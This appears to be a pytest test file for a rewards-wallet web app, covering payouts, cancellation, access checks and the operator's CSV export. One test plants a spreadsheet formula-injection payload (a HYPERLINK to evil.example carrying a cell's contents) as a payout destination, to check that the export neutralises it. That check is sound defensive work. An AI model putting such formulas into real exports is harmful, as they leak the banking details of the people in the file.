"""The rewards wallet: balance and history, payout requests (limits, every error at once, the
destination sealed, the ledger balanced), cancelling, the operator's CSV export (settled
once) and the overview's card."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from jsonschema import Draft202012Validator  # type: ignore[import-untyped]
from sqlalchemy import select

from infomediary.audit.log import Actor
from infomediary.cli import main
from infomediary.cli import payouts as payouts_cli
from infomediary.instance import Instance
from infomediary.models import (
    AccessLogEntry,
    LedgerAccount,
    Offer,
    OfferDelivery,
    PayoutRequest,
    utcnow,
)
from infomediary.services import Context, export_csv, exports, profiles, rewards, wallet
from infomediary.services.customer_keys import customer_key
from infomediary.statuses import DeliveryStatus, LedgerAccountKind, OfferStatus, PayoutStatus
from tests.conftest import csrf
from tests.factories import make_customer, make_supplier
from tests.log_reasons import code_of

EMAIL, PASSWORD = "wallet@example.org", "correct horse battery"
IBAN = "DE89 3704 0044 0532 0130 00"


def earn(
    inst: Instance,
    customer_id: str,
    cents: int,
    *,
    supplier: str = "Acme Books",
    title: str = "Autumn reading list",
    answered: bool = True,
) -> str:
    """The customer accepts an offer worth ``cents``: escrow funded, reward paid."""
    supplier_id = make_supplier(inst, name=supplier, fund_cents=cents * 10).id
    offer_id = str(uuid.uuid4())
    with inst.sessions() as session:
        session.add(
            Offer(
                id=offer_id,
                supplier_id=supplier_id,
                purpose="marketing",
                criteria="{}",
                title=title,
                body="Books.",
                reward_cents=cents,
                max_recipients=10,
                status=OfferStatus.DELIVERED,
                expires_at=utcnow() + timedelta(days=7),
            )
        )
        session.add(
            OfferDelivery(
                offer_id=offer_id,
                customer_id=customer_id,
                status=DeliveryStatus.ACCEPTED if answered else DeliveryStatus.DELIVERED,
            )
        )
        session.flush()
        rewards.escrow_offer(session, supplier_id, offer_id, cents)
        if answered:
            rewards.pay_reward(session, supplier_id, offer_id, customer_id, cents)
        session.commit()
    return offer_id


@pytest.fixture
def customer(inst: Instance, auth: Any) -> str:
    customer_id = make_customer(inst, email=EMAIL, password=PASSWORD)
    assert auth.login(EMAIL, PASSWORD).status_code == 302
    return customer_id


def _request(client: Any, amount: str, destination: str) -> Any:
    return client.post(
        "/wallet/payouts",
        data={"csrf_token": csrf(client, "/wallet"), "amount": amount, "destination": destination},
    )


def _total(inst: Instance) -> int:
    with inst.sessions() as session:
        return rewards.total_of_all_balances(session)


def _entries(inst: Instance, customer_id: str) -> list[AccessLogEntry]:
    with inst.sessions() as session:
        return list(
            session.execute(
                select(AccessLogEntry)
                .where(AccessLogEntry.customer_id == customer_id)
                .order_by(AccessLogEntry.seq)
            ).scalars()
        )


def _available(page: str) -> str:
    found = re.search(r'data-testid="available">([^<]+)<', page)
    assert found
    return found.group(1)


def test_wallet_shows_balance_and_history_with_supplier_names(
    client: Any, inst: Instance, customer: str
) -> None:
    earn(inst, customer, 450, supplier="Acme Books", title="Autumn reading list")
    earn(inst, customer, 300, supplier="Bolt Bikes", title="Spring tune-up")
    page = client.get("/wallet")
    assert page.status_code == 200
    body = page.get_data(as_text=True)
    assert _available(body) == "$7.50"
    assert "Reward from Acme Books" in body
    assert "Autumn reading list" in body
    assert "Reward from Bolt Bikes" in body
    assert "Spring tune-up" in body
    # running balance: newest first, $7.50 after the second reward and $4.50 after the first
    assert body.index("$7.50</td>") < body.index("$4.50</td>")
    assert code_of(_entries(inst, customer)[-1]) == "wallet.viewed"


def test_history_is_paginated_with_a_running_balance(
    client: Any, inst: Instance, customer: str
) -> None:
    supplier_id = make_supplier(inst, fund_cents=10_000).id
    with inst.sessions() as session:
        platform = rewards.account(session, *rewards.PLATFORM)
        mine = rewards.account(session, LedgerAccountKind.CUSTOMER, customer)
        for _ in range(wallet.PER_PAGE + 3):
            rewards.post(
                session, "reward", [(platform, -100), (mine, 100)], supplier_id=supplier_id
            )
        session.commit()
    first = client.get("/wallet").get_data(as_text=True)
    second = client.get("/wallet?page=2").get_data(as_text=True)
    assert "page 1 of 2" in first
    assert "page 2 of 2" in second
    assert first.count('data-label="Balance"') == wallet.PER_PAGE
    assert second.count('data-label="Balance"') == 3
    assert "$23.00</td>" in first
    assert "$4.00</td>" in first
    assert "$3.00</td>" in second
    assert "$1.00</td>" in second
    assert "$4.00</td>" not in second


def test_a_payout_request_moves_the_amount_and_seals_the_destination(
    client: Any, inst: Instance, customer: str
) -> None:
    earn(inst, customer, 1200)
    before = _total(inst)
    response = _request(client, "7.25", IBAN)
    assert response.status_code == 303
    page = client.get("/wallet").get_data(as_text=True)
    assert _available(page) == "$4.75"
    assert 'data-testid="pending">$7.25<' in page
    assert "•••• 3000" in page
    assert IBAN not in page
    assert _total(inst) == before == 0
    with inst.sessions() as session:
        row = session.execute(select(PayoutRequest)).scalar_one()
        assert row.status == PayoutStatus.REQUESTED
        assert row.amount_cents == 725
        assert IBAN.encode() not in row.destination
        assert b"3704" not in row.destination
        pending = rewards.account(session, *wallet.PAYOUTS_PENDING)
        assert rewards.balance(session, pending.id) == 725
    codes = [code_of(e) for e in _entries(inst, customer)]
    assert "wallet.payout_requested" in codes


def test_bad_payout_input_shows_every_error_and_keeps_what_was_typed(
    client: Any, inst: Instance, customer: str
) -> None:
    earn(inst, customer, 800)
    response = _request(client, "4.99", "ab")
    assert response.status_code == 400
    body = response.get_data(as_text=True)
    assert 'id="amount-error"' in body
    assert 'id="destination-error"' in body
    assert "The smallest payout is $5.00." in body
    assert 'value="4.99"' in body
    assert 'value="ab"' in body
    too_much = _request(client, "8.01", "ada@example.org")
    assert too_much.status_code == 400
    assert "You have $8.00 available." in too_much.get_data(as_text=True)
    assert 'value="ada@example.org"' in too_much.get_data(as_text=True)
    assert _request(client, "twelve", IBAN).status_code == 400
    with inst.sessions() as session:
        assert session.execute(select(PayoutRequest)).first() is None
        assert wallet.available_cents(session, customer) == 800


def test_cancel_gives_the_money_back_once(client: Any, inst: Instance, customer: str) -> None:
    earn(inst, customer, 1000)
    _request(client, "10", IBAN)
    with inst.sessions() as session:
        payout_id = session.execute(select(PayoutRequest.id)).scalar_one()
    url = f"/wallet/payouts/{payout_id}/cancel"
    assert client.post(url, data={"csrf_token": csrf(client, "/wallet")}).status_code == 303
    again = client.post(url, data={"csrf_token": csrf(client, "/wallet")}, follow_redirects=True)
    assert "can no longer be cancelled" in again.get_data(as_text=True)
    with inst.sessions() as session:
        assert wallet.available_cents(session, customer) == 1000
        assert wallet.pending_cents(session, customer) == 0
        assert session.get_one(PayoutRequest, payout_id).status == PayoutStatus.CANCELLED
    assert _total(inst) == 0
    codes = [code_of(e) for e in _entries(inst, customer)]
    assert codes.count("wallet.payout_cancelled") == 1
    page = client.get("/wallet").get_data(as_text=True)
    assert "Payout cancelled" in page
    assert "Payout requested" in page


def test_another_customers_payout_cannot_be_cancelled(
    client: Any, inst: Instance, customer: str
) -> None:
    other = make_customer(inst)
    earn(inst, other, 900)
    with inst.sessions() as session:
        payout = wallet.request_payout(
            session, inst, other, wallet.PayoutInput("9", IBAN), Context(Actor.system("test"))
        )
    url = f"/wallet/payouts/{payout.id}/cancel"
    refused = client.post(url, data={"csrf_token": csrf(client, "/wallet")})
    # The same answer as for a payout that does not exist: nothing says it is someone's.
    assert refused.status_code == 404
    with inst.sessions() as session:
        assert session.get_one(PayoutRequest, payout.id).status == PayoutStatus.REQUESTED
    # The refused attempt is on the customer's own log, naming neither the payout nor its owner.
    mine = [e for e in _entries(inst, customer) if code_of(e) == "wallet.cancel_refused"]
    assert len(mine) == 1
    assert mine[0].outcome == "denied"
    assert payout.id not in (mine[0].reason_data or "")
    assert other not in (mine[0].reason_data or "")
    assert "wallet.cancel_refused" not in [code_of(e) for e in _entries(inst, other)]


@pytest.fixture
def env(base_config: Any, inst: Instance, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("INFOMEDIARY_INSTANCE_PATH", str(base_config.instance_path))
    monkeypatch.setenv("INFOMEDIARY_DATABASE_URL", base_config.database_url)


def test_cli_export_writes_csv_settles_and_never_pays_twice(
    client: Any, inst: Instance, customer: str, env: None, tmp_path: Path
) -> None:
    earn(inst, customer, 2000)
    _request(client, "12.50", IBAN)
    out = tmp_path / "payouts.csv"
    result = CliRunner().invoke(main, ["payouts", "export", "--csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 1
    assert rows[0]["amount"] == "12.50"
    assert rows[0]["currency"] == "USD"
    assert rows[0]["destination"] == IBAN
    assert out.stat().st_mode & 0o077 == 0
    with inst.sessions() as session:
        row = session.execute(select(PayoutRequest)).scalar_one()
        assert rows[0]["id"] == row.id
        assert row.status == PayoutStatus.SETTLED
        paid = rewards.account(session, *wallet.PAID_OUT)
        pending = rewards.account(session, *wallet.PAYOUTS_PENDING)
        assert rewards.balance(session, paid.id) == 1250
        assert rewards.balance(session, pending.id) == 0
    assert _total(inst) == 0
    assert [code_of(e) for e in _entries(inst, customer)].count("wallet.payout_settled") == 1
    again = CliRunner().invoke(main, ["payouts", "export", "--csv"])
    assert again.exit_code == 0, again.output
    assert again.output.strip().splitlines() == ["id,requested_at,amount,currency,destination"]
    page = client.get("/wallet").get_data(as_text=True)
    assert ">paid<" in page
    assert "Cancel this payout" not in page


def _put_destination(inst: Instance, payout_id: str, destination: str) -> None:
    """A destination stored before today's checks: it reaches the export as it was typed."""
    with inst.sessions() as session:
        row = session.get_one(PayoutRequest, payout_id)
        key = customer_key(session, inst, row.customer_id)
        row.destination = inst.vault.seal(
            key, "payout_requests", payout_id, "destination", destination
        )
        session.commit()


def test_cli_export_writes_no_cell_a_spreadsheet_reads_as_a_formula(
    client: Any, inst: Instance, customer: str, env: None, tmp_path: Path
) -> None:
    earn(inst, customer, 2000)
    _request(client, "12.50", IBAN)
    with inst.sessions() as session:
        payout_id = session.execute(select(PayoutRequest.id)).scalar_one()
    evil = '=HYPERLINK("https://evil.example/?"&A2,"DE89")'
    _put_destination(inst, payout_id, evil)
    out = tmp_path / "payouts.csv"
    result = CliRunner().invoke(main, ["payouts", "export", "--csv", "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[1][4] == "'" + evil
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_failed_write_leaves_every_payout_requested(
    client: Any, inst: Instance, customer: str, env: None, tmp_path: Path, monkeypatch: Any
) -> None:
    earn(inst, customer, 2000)
    _request(client, "6", IBAN)
    _request(client, "7", "ada@example.org")
    out = tmp_path / "payouts.csv"

    def unwritable(path: Path | None) -> Any:
        class Full(io.StringIO):
            def write(self, text: str) -> int:
                raise OSError(28, "No space left on device")

        return Full()

    monkeypatch.setattr(payouts_cli, "_open_out", unwritable)
    result = CliRunner().invoke(main, ["payouts", "export", "--csv", "--out", str(out)])
    assert result.exit_code != 0
    assert result.output.strip().startswith("error: ")
    with inst.sessions() as session:
        statuses = session.execute(select(PayoutRequest.status)).scalars().all()
        assert sorted(statuses) == [PayoutStatus.REQUESTED, PayoutStatus.REQUESTED]
        assert wallet.pending_cents(session, customer) == 1300
    assert "wallet.payout_settled" not in [code_of(e) for e in _entries(inst, customer)]
    assert _total(inst) == 0


def test_cli_export_refuses_bad_input_in_one_line(
    env: None, inst: Instance, tmp_path: Path
) -> None:
    no_format = CliRunner().invoke(main, ["payouts", "export"])
    assert no_format.exit_code != 0
    assert no_format.output.strip() == "error: choose the format: --csv"
    existing = tmp_path / "old.csv"
    existing.write_text("kept", encoding="utf-8")
    refused = CliRunner().invoke(main, ["payouts", "export", "--csv", "--out", str(existing)])
    assert refused.exit_code != 0
    assert refused.output.strip().startswith("error: ")
    assert len(refused.output.splitlines()) == 1
    assert existing.read_text(encoding="utf-8") == "kept"


def test_overview_card_shows_balance_and_pending_offers(
    client: Any, inst: Instance, customer: str
) -> None:
    earn(inst, customer, 650)
    earn(inst, customer, 200, supplier="Bolt Bikes", title="Waiting", answered=False)
    body = client.get("/dashboard").get_data(as_text=True)
    card = body[body.index('data-testid="wallet-card"') :]
    card = card[: card.index("</article>")]
    assert "Balance: $6.50 available, $0.00 in pending payouts." in card
    assert "Offers waiting for your answer: 1." in card
    assert 'href="/wallet"' in card
    assert 'href="/inbox"' in card


def test_wallet_needs_a_login(client: Any) -> None:
    response = client.get("/wallet")
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def test_the_customers_export_holds_their_payouts_with_the_destination(
    client: Any, inst: Instance, customer: str
) -> None:
    earn(inst, customer, 1500)
    _request(client, "5", IBAN)
    _request(client, "6.00", "ada@example.org")
    with inst.sessions() as session:
        cancelled = session.execute(
            select(PayoutRequest.id).where(PayoutRequest.amount_cents == 600)
        ).scalar_one()
    client.post(f"/wallet/payouts/{cancelled}/cancel", data={"csrf_token": csrf(client, "/wallet")})
    ctx = Context(Actor.system("test"))
    with inst.sessions() as session:
        document = exports.export(session, inst, customer, ctx)
    schema = export_csv.schema()
    validator = Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)
    assert [e.message for e in validator.iter_errors(document)] == []
    found = {(p["amount_cents"], p["destination"], p["status"]) for p in document["payouts"]}
    assert found == {(500, IBAN, "requested"), (600, "ada@example.org", "cancelled")}
    kinds = [m["kind"] for m in document["earnings"]["movements"]]
    assert sorted(kinds) == ["payout", "payout", "payout_cancel", "reward"]
    assert document["earnings"]["balance_cents"] == 1000
    with inst.sessions() as session:
        data, _when = export_csv.export_zip(session, inst, customer, ctx)
    assert export_csv.read_zip(data)["payouts"] == document["payouts"]


def test_an_empty_wallet_creates_no_ledger_account(
    client: Any, inst: Instance, customer: str
) -> None:
    body = client.get("/wallet").get_data(as_text=True)
    assert _available(body) == "$0.00"
    assert "Nothing yet." in body
    with inst.sessions() as session:
        found = session.execute(
            select(LedgerAccount).where(LedgerAccount.owner_id == customer)
        ).first()
    assert found is None


def test_the_overview_counts_what_is_new_since_the_last_visit(
    client: Any, inst: Instance, customer: str, auth: Any
) -> None:
    first = client.get("/dashboard").get_data(as_text=True)
    assert 'data-testid="since-last-visit"' not in first  # the first visit: nothing to compare
    auth.logout()
    with inst.sessions() as session:
        profiles.read_profile(session, inst, customer, Context(Actor.system("test")))
    earn(inst, customer, 200, answered=False)
    earn(inst, customer, 300, supplier="Bolt Bikes", answered=False)
    assert auth.login(EMAIL, PASSWORD).status_code == 302
    body = client.get("/dashboard").get_data(as_text=True)
    line = body[body.index('data-testid="since-last-visit"') :]
    line = line[: line.index("</p>")]
    assert ">new offers: 2</a>" in line
    assert "Infomediary or auditors: 1</a>" in line
